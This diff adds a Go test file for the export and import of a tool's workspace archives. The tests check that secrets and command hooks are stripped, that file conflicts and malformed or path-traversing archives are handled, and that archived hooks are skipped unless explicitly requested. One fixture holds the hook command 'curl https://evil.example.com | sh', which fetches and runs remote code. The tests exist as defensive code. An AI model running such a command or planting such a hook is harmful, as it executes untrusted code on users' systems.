@@ -0,0 +1,228 @@
+package workspace
+
+import (
+	"archive/tar"
+	"bytes"
+	"compress/gzip"
+	"os"
+	"path/filepath"
+	"testing"
+	"time"
+
+	"github.com/stretchr/testify/assert"
+	"github.com/stretchr/testify/require"
+)
+
+var exportedAt = time.Date(2024, 5, 10, 12, 0, 0, 0, time.UTC)
+
+// newTestWorkspace creates a workspace with its configuration inside the storage directory
+func newTestWorkspace(t *testing.T, files map[string]string) *Workspace {
+	t.Helper()
+	dir := filepath.Join(t.TempDir(), ".assetcap")
+	for name, content := range files {
+		p := filepath.Join(dir, filepath.FromSlash(name))
+		require.NoError(t, os.MkdirAll(filepath.Dir(p), 0755))
+		require.NoError(t, os.WriteFile(p, []byte(content), 0644))
+	}
+	return New(dir, filepath.Join(dir, "config.json"))
+}
+
+// buildArchive writes a gzipped tar archive of the entries, in order
+func buildArchive(t *testing.T, entries ...[2]string) []byte {
+	t.Helper()
+	var buf bytes.Buffer
+	gz := gzip.NewWriter(&buf)
+	tw := tar.NewWriter(gz)
+	for _, entry := range entries {
+		require.NoError(t, writeEntry(tw, entry[0], []byte(entry[1]), exportedAt))
+	}
+	require.NoError(t, tw.Close())
+	require.NoError(t, gz.Close())
+	return buf.Bytes()
+}
+
+func readFile(t *testing.T, p string) string {
+	t.Helper()
+	data, err := os.ReadFile(p)
+	require.NoError(t, err)
+	return string(data)
+}
+
+func TestExportImport_RoundTrip(t *testing.T) {
+	source := newTestWorkspace(t, map[string]string{
+		"assets.json":            `{"api": {"name": "api"}}`,
+		"tasks.json":             `{"PROJ-1": {"key": "PROJ-1"}}`,
+		"pipeline/PROJ-Q1.json":  `{"steps": []}`,
+		"config.json":            `{"output": {"webhookHeaders": {"Authorization": "Bearer secret"}}, "hooks": [{"event": "*", "command": "./notify.sh"}]}`,
+		"credentials.env":        "JIRA_TOKEN=secret\n",
+		"telemetry.json":         `{"enabled": true, "installId": "abc"}`,
+		"telemetry-buffer.jsonl": "{}\n",
+	})
+
+	var archive bytes.Buffer
+	manifest, err := source.Export(&archive, exportedAt)
+	require.NoError(t, err)
+	assert.Equal(t, FormatVersion, manifest.FormatVersion)
+	assert.Equal(t, exportedAt, manifest.ExportedAt)
+	assert.Equal(t, []string{"assets.json", "config.json", "pipeline/PROJ-Q1.json", "tasks.json"}, manifest.Files)
+
+	target := newTestWorkspace(t, nil)
+	result, err := target.Import(bytes.NewReader(archive.Bytes()), ImportOptions{})
+	require.NoError(t, err)
+	assert.Equal(t, manifest.Files, result.Written)
+	assert.Empty(t, result.Merged)
+	assert.Empty(t, result.Kept)
+
+	assert.Equal(t, `{"api": {"name": "api"}}`, readFile(t, filepath.Join(target.Dir, "assets.json")))
+	assert.Equal(t, `{"steps": []}`, readFile(t, filepath.Join(target.Dir, "pipeline", "PROJ-Q1.json")))
+	assert.NotContains(t, readFile(t, target.ConfigPath), "Bearer secret")
+	assert.NotContains(t, readFile(t, target.ConfigPath), "./notify.sh", "command hooks are not exported")
+	assert.NoFileExists(t, filepath.Join(target.Dir, "credentials.env"))
+	assert.NoFileExists(t, filepath.Join(target.Dir, "telemetry.json"))
+}
+
+func TestExport_EmptyWorkspace(t *testing.T) {
+	ws := New(filepath.Join(t.TempDir(), "missing"), filepath.Join(t.TempDir(), "config.json"))
+	_, err := ws.Export(&bytes.Buffer{}, exportedAt)
+	assert.ErrorContains(t, err, "has no files to export")
+}
+
+func TestImport_ExistingFiles(t *testing.T) {
+	archive := buildArchive(t,
+		[2]string{manifestName, `{"formatVersion": 1, "files": ["assets.json", "samples.json"]}`},
+		[2]string{"assets.json", `{"api": {"name": "api"}}`},
+		[2]string{"samples.json", `{"imported": true}`},
+	)
+
+	t.Run("refused without merge or force", func(t *testing.T) {
+		ws := newTestWorkspace(t, map[string]string{"assets.json": `{}`})
+		_, err := ws.Import(bytes.NewReader(archive), ImportOptions{})
+		assert.ErrorIs(t, err, ErrFilesExist)
+		assert.ErrorContains(t, err, "assets.json")
+		assert.Equal(t, `{}`, readFile(t, filepath.Join(ws.Dir, "assets.json")))
+		assert.NoFileExists(t, filepath.Join(ws.Dir, "samples.json"))
+	})
+
+	t.Run("replaced with force", func(t *testing.T) {
+		ws := newTestWorkspace(t, map[string]string{"assets.json": `{}`})
+		result, err := ws.Import(bytes.NewReader(archive), ImportOptions{Force: true})
+		require.NoError(t, err)
+		assert.Equal(t, []string{"assets.json", "samples.json"}, result.Written)
+		assert.Equal(t, `{"api": {"name": "api"}}`, readFile(t, filepath.Join(ws.Dir, "assets.json")))
+	})
+
+	t.Run("merged", func(t *testing.T) {
+		ws := newTestWorkspace(t, map[string]string{"assets.json": `{"web": {"name": "web"}}`, "samples.json": `{"local": true}`})
+		result, err := ws.Import(bytes.NewReader(archive), ImportOptions{Merge: true})
+		require.NoError(t, err)
+		assert.Empty(t, result.Written)
+		assert.Equal(t, []string{"assets.json"}, result.Merged)
+		assert.Equal(t, []string{"samples.json"}, result.Kept)
+		assert.Contains(t, readFile(t, filepath.Join(ws.Dir, "assets.json")), `"web"`)
+		assert.Contains(t, readFile(t, filepath.Join(ws.Dir, "assets.json")), `"api"`)
+		assert.Equal(t, `{"local": true}`, readFile(t, filepath.Join(ws.Dir, "samples.json")))
+	})
+}
+
+func TestImport_Hooks(t *testing.T) {
+	archive := buildArchive(t,
+		[2]string{manifestName, `{"formatVersion": 1, "files": ["config.json"]}`},
+		[2]string{"config.json", `{"classifier": "random", "hooks": [{"event": "*", "command": "curl https://evil.example.com | sh"}]}`},
+	)
+	local := `{"hooks": [{"event": "TasksClassified", "command": "./notify.sh"}]}`
+
+	t.Run("local hooks kept", func(t *testing.T) {
+		ws := newTestWorkspace(t, map[string]string{"config.json": local})
+		result, err := ws.Import(bytes.NewReader(archive), ImportOptions{Force: true})
+		require.NoError(t, err)
+		require.Len(t, result.SkippedHooks, 1)
+		assert.Empty(t, result.Hooks)
+		config := readFile(t, ws.ConfigPath)
+		assert.Contains(t, config, `"random"`)
+		assert.Contains(t, config, "./notify.sh")
+		assert.NotContains(t, config, "evil.example.com")
+	})
+
+	t.Run("no hooks without a local config", func(t *testing.T) {
+		ws := newTestWorkspace(t, nil)
+		_, err := ws.Import(bytes.NewReader(archive), ImportOptions{})
+		require.NoError(t, err)
+		assert.NotContains(t, readFile(t, ws.ConfigPath), "hooks")
+	})
+
+	t.Run("archived hooks installed on request", func(t *testing.T) {
+		ws := newTestWorkspace(t, map[string]string{"config.json": local})
+		result, err := ws.Import(bytes.NewReader(archive), ImportOptions{Force: true, Hooks: true})
+		require.NoError(t, err)
+		require.Len(t, result.Hooks, 1)
+		assert.Equal(t, "curl https://evil.example.com | sh", result.Hooks[0].Command)
+		assert.Contains(t, readFile(t, ws.ConfigPath), "evil.example.com")
+	})
+}
+
+func TestImport_InvalidArchives(t *testing.T) {
+	tests := []struct {
+		name    string
+		archive []byte
+		wantErr string
+	}{
+		{
+			name:    "not gzip",
+			archive: []byte("plain text"),
+			wantErr: "failed to read archive",
+		},
+		{
+			name:    "no manifest",
+			archive: buildArchive(t, [2]string{"assets.json", `{}`}),
+			wantErr: "archive has no manifest.json, it is not an assetcap workspace export",
+		},
+		{
+			name:    "newer format",
+			archive: buildArchive(t, [2]string{manifestName, `{"formatVersion": 2, "files": []}`}),
+			wantErr: "workspace archive format is newer than supported: archive format 2, supported up to 1",
+		},
+		{
+			name:    "missing version",
+			archive: buildArchive(t, [2]string{manifestName, `{"files": []}`}),
+			wantErr: "invalid archive format version 0",
+		},
+		{
+			name:    "missing file",
+			archive: buildArchive(t, [2]string{manifestName, `{"formatVersion": 1, "files": ["tasks.json"]}`}),
+			wantErr: "archive is missing tasks.json listed in its manifest",
+		},
+		{
+			name: "invalid data file",
+			archive: buildArchive(t,
+				[2]string{manifestName, `{"formatVersion": 1, "files": ["teams.json"]}`},
+				[2]string{"teams.json", `{"PROJ": {"members": ["Ana"]}}`},
+			),
+			wantErr: "invalid teams.json in archive",
+		},
+		{
+			name: "invalid config",
+			archive: buildArchive(t,
+				[2]string{manifestName, `{"formatVersion": 1, "files": ["config.json"]}`},
+				[2]string{"config.json", `{"classifier": "magic"}`},
+			),
+			wantErr: "invalid config.json in archive: unsupported classifier: magic",
+		},
+		{
+			name: "path outside the workspace",
+			archive: buildArchive(t,
+				[2]string{manifestName, `{"formatVersion": 1, "files": []}`},
+				[2]string{"../outside.json", `{}`},
+			),
+			wantErr: "archive entry ../outside.json is not a workspace file",
+		},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			ws := newTestWorkspace(t, nil)
+			_, err := ws.Import(bytes.NewReader(tt.archive), ImportOptions{})
+			assert.ErrorContains(t, err, tt.wantErr)
+			assert.NoDirExists(t, ws.Dir)
+		})
+	}
+}